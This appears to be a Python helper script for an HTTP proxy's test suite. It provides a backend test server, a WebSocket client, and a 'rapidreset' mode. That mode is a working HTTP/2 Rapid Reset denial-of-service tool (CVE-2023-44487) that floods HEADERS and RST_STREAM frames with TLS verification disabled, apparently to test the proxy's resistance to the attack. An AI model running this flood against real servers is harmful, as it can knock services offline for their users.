#!/usr/bin/env python3
"""Test peers of the HTTP proxy tests (standard library only).

server ADDR PORT NAME [--proxy-protocol] [--tls CHAIN KEY] [--health-file PATH]
    A threaded HTTP/1.1 keep-alive server. Each answer's body is NAME, a
    line "proxy: CLIENT SERVER" when a PROXY v2 header came first (or
    "proxy: none"), and the request head as received. GET with
    "Upgrade: websocket" is answered 101 and then echoes each text frame
    as "NAME: TEXT". With --proxy-protocol a connection without a valid
    v2 header is closed (as a real PROXY-protocol backend does). A path
    starting with /cached is answered "NAME answer N" (N counts those
    answers) with Cache-Control: public, max-age=600, for cache tests.
    Framings, for the proxy's fast path: /chunked is answered chunked
    (NAME, 1000 "x", "end", a trailer: 1009 + len(NAME) bytes of body),
    /big with 300000 "b", /eof without a length (5000 "e", then close),
    /bye with a length but then closed without saying so. With --tls the
    server speaks TLS with that certificate chain and key (PEM files) and
    each answer's body has a line "tls: VERSION SNI". /healthz is answered
    200 while the --health-file exists, else 503.

wsclient ADDR PORT HOST PATH
    Opens one WebSocket through the proxy, prints "open", then sends each
    stdin line as a text frame and prints the echoed text, until stdin ends.

rapidreset ADDR PORT HOST COUNT
    HTTP/2 rapid reset (CVE-2023-44487) over TLS (ALPN h2, certificate not
    checked): COUNT times HEADERS (GET /) immediately followed by
    RST_STREAM(CANCEL), written as fast as the socket takes them, then
    reads until the server closes or 5 s pass. Prints "sent N", then
    "goaway CODE" if the server sent GOAWAY, and "closed" or "open".
"""
import base64
import hashlib
import ipaddress
import os
import socket
import struct
import sys
import threading
import time

GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
CACHED = {"answers": 0, "lock": threading.Lock()}
HEALTH = {"file": None}
SIG = b"\r\n\r\n\x00\r\nQUIT\n"


def recv_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise EOFError
        buf += chunk
    return buf


def read_proxy_v2(s):
    head = recv_exact(s, 16)
    if head[:12] != SIG or head[12] != 0x21:
        return None
    body = recv_exact(s, struct.unpack("!H", head[14:16])[0])
    if head[13] == 0x11:
        c, d = ipaddress.ip_address(body[0:4]), ipaddress.ip_address(body[4:8])
        cp, dp = struct.unpack("!HH", body[8:12])
    elif head[13] == 0x21:
        c, d = ipaddress.ip_address(body[0:16]), ipaddress.ip_address(body[16:32])
        cp, dp = struct.unpack("!HH", body[32:36])
    else:
        return None
    return f"{c}:{cp} {d}:{dp}"


def read_head(s, buf):
    while b"\r\n\r\n" not in buf:
        chunk = s.recv(65536)
        if not chunk:
            raise EOFError
        buf += chunk
        if len(buf) > 1 << 20:
            raise EOFError
    head, rest = buf.split(b"\r\n\r\n", 1)
    return head.decode("latin-1"), rest


def ws_frame(payload, mask):
    b = payload.encode()
    first = bytes([0x81])
    n = len(b)
    m = 0x80 if mask else 0
    if n < 126:
        hdr = first + bytes([m | n])
    elif n < 65536:
        hdr = first + bytes([m | 126]) + struct.pack("!H", n)
    else:
        hdr = first + bytes([m | 127]) + struct.pack("!Q", n)
    if mask:
        key = os.urandom(4)
        return hdr + key + bytes(x ^ key[i % 4] for i, x in enumerate(b))
    return hdr + b


def ws_read(s, buf):
    """One frame from s (buf: bytes already read): (opcode, text, rest)."""

    def fill(n, buf):
        while len(buf) < n:
            chunk = s.recv(65536)
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    buf = fill(2, buf)
    op, ln, masked = buf[0] & 0x0F, buf[1] & 0x7F, buf[1] & 0x80
    pos = 2
    if ln == 126:
        buf = fill(4, buf)
        ln, pos = struct.unpack("!H", buf[2:4])[0], 4
    elif ln == 127:
        buf = fill(10, buf)
        ln, pos = struct.unpack("!Q", buf[2:10])[0], 10
    start = pos + (4 if masked else 0)
    buf = fill(start + ln, buf)
    data = buf[start:start + ln]
    if masked:
        key = buf[pos:pos + 4]
        data = bytes(x ^ key[i % 4] for i, x in enumerate(data))
    return op, data.decode(errors="replace"), buf[start + ln:]


def serve_conn(s, name, want_proxy, tls):
    try:
        if tls is not None:
            s = tls.wrap_socket(s, server_side=True)
        proxy = "none"
        if want_proxy:
            proxy = read_proxy_v2(s)
            if proxy is None:
                return
        buf = b""
        while True:
            head, buf = read_head(s, buf)
            lines = head.split("\r\n")
            hdrs = {}
            for l in lines[1:]:
                if ":" in l:
                    k, v = l.split(":", 1)
                    hdrs[k.strip().lower()] = v.strip()
            length = int(hdrs.get("content-length", "0") or 0)
            while len(buf) < length:
                chunk = s.recv(65536)
                if not chunk:
                    raise EOFError
                buf += chunk
            buf = buf[length:]
            if hdrs.get("upgrade", "").lower() == "websocket":
                accept = base64.b64encode(hashlib.sha1((hdrs.get("sec-websocket-key", "") + GUID).encode()).digest())
                s.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                          b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
                while True:
                    op, text, buf = ws_read(s, buf)
                    if op == 8:
                        s.sendall(bytes([0x88, 0]))
                        return
                    if op == 1:
                        s.sendall(ws_frame(f"{name}: {text}", False))
            seen_tls = f"tls: {s.version()} {getattr(s, 'sni', '-')}\n" if tls is not None else ""
            body = f"{name}\nproxy: {proxy}\n{seen_tls}{head}\r\n\r\n".encode()
            extra = b""
            target = (lines[0].split(" ") + [""])[1]
            if target.startswith("/cached"):
                with CACHED["lock"]:
                    CACHED["answers"] += 1
                    body = f"{name} answer {CACHED['answers']}\n".encode()
                extra = b"\r\ncache-control: public, max-age=600"
            if target.startswith("/slow/"):
                # /slow/SECONDS: the answer comes that much later.
                time.sleep(float(target[len("/slow/"):]))
            if target == "/healthz" and HEALTH["file"] is not None:
                ok = os.path.exists(HEALTH["file"])
                s.sendall(b"HTTP/1.1 %s\r\ncontent-length: 0\r\n\r\n" % (b"200 OK" if ok else b"503 Sick"))
                continue
            if target in ("/chunked", "/eof", "/bye", "/big"):
                framed(s, target, name)
                if target in ("/eof", "/bye"):
                    return
                continue
            close = hdrs.get("connection", "").lower() == "close"
            s.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: " + str(len(body)).encode()
                      + extra + (b"\r\nconnection: close" if close else b"") + b"\r\n\r\n" + body)
            if close:
                return
    except (EOFError, OSError):
        pass
    finally:
        s.close()


def framed(s, target, name):
    if target == "/chunked":
        chunks = [f"{name}\n".encode(), b"x" * 1000, b"end\n"]
        body = b"".join(b"%x\r\n%s\r\n" % (len(c), c) for c in chunks) + b"0\r\nx-trailer: t\r\n\r\n"
        s.sendall(b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n" + body)
    elif target == "/eof":
        s.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\n\r\n" + b"e" * 5000)
    else:
        body = b"b" * 300000 if target == "/big" else f"{name} bye\n".encode()
        s.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body) + body)


def server(addr, port, name, want_proxy, tls_files):
    tls = None
    if tls_files:
        import ssl
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        tls.load_cert_chain(tls_files[0], tls_files[1])

        def remember_sni(sock, sni, _ctx):
            sock.sni = sni or "-"
        tls.sni_callback = remember_sni
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    l = socket.socket(fam, socket.SOCK_STREAM)
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind((addr, port))
    l.listen(1024)
    print("ready", flush=True)
    while True:
        s, _ = l.accept()
        threading.Thread(target=serve_conn, args=(s, name, want_proxy, tls), daemon=True).start()


def wsclient(addr, port, host, path):
    s = socket.create_connection((addr, port), timeout=10)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
               f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
    head, buf = read_head(s, b"")
    want = base64.b64encode(hashlib.sha1((key + GUID).encode()).digest()).decode()
    if not head.startswith("HTTP/1.1 101") or want not in head:
        print("refused " + head.replace("\r\n", " | "), flush=True)
        return
    print("open", flush=True)
    for line in sys.stdin:
        s.sendall(ws_frame(line.rstrip("\n"), True))
        op, text, buf = ws_read(s, buf)
        print(text, flush=True)
    s.sendall(bytes([0x88, 0x80]) + os.urandom(4))


def h2_frame(kind, flags, stream, payload):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def rapidreset(addr, port, host, count):
    import select
    import ssl
    import time
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    s = ctx.wrap_socket(socket.create_connection((addr, port), timeout=10), server_hostname=host)
    assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
    # HPACK: :method GET, :scheme https, :path / (static table), :authority literal.
    block = b"\x82\x87\x84\x41" + bytes([len(host)]) + host.encode()
    sent, goaway, closed = 0, None, False
    s.setblocking(False)
    buf = b""

    def read_some():
        nonlocal buf, goaway, closed
        try:
            chunk = s.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError:
            closed = True
            return
        if not chunk:
            closed = True
            return
        buf += chunk
        while len(buf) >= 9:
            n = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + n:
                break
            kind, payload = buf[3], buf[9:9 + n]
            if kind == 7 and goaway is None:
                goaway = int.from_bytes(payload[4:8], "big")
            if kind == 4 and not buf[4] & 1:
                out.append(h2_frame(4, 1, 0, b""))
            buf = buf[9 + n:]

    out = []
    for i in range(count):
        stream = 2 * i + 1
        out.append(h2_frame(1, 0x5, stream, block) + h2_frame(3, 0, stream, struct.pack("!I", 8)))
        if len(out) >= 64 or i == count - 1:
            data = b"".join(out)
            out = []
            while data and not closed:
                try:
                    k = s.send(data)
                    data = data[k:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    select.select([s], [s], [], 0.1)
                    read_some()
                except OSError:
                    # The server closed: what it said before (GOAWAY) may
                    # still be waiting to be read.
                    read_some()
                    closed = True
            read_some()
            if closed:
                break
            sent = i + 1
    deadline = time.time() + 5
    while not closed and time.time() < deadline:
        select.select([s], [], [], 0.2)
        read_some()
    print(f"sent {sent}", flush=True)
    if goaway is not None:
        print(f"goaway {goaway}", flush=True)
    print("closed" if closed else "open", flush=True)


if __name__ == "__main__":
    a = sys.argv[1:]
    if a[0] == "server":
        tls_files = a[a.index("--tls") + 1:a.index("--tls") + 3] if "--tls" in a else None
        if "--health-file" in a:
            HEALTH["file"] = a[a.index("--health-file") + 1]
        server(a[1], int(a[2]), a[3], "--proxy-protocol" in a, tls_files)
    elif a[0] == "wsclient":
        wsclient(a[1], int(a[2]), a[3], a[4])
    elif a[0] == "rapidreset":
        rapidreset(a[1], int(a[2]), a[3], int(a[4]))
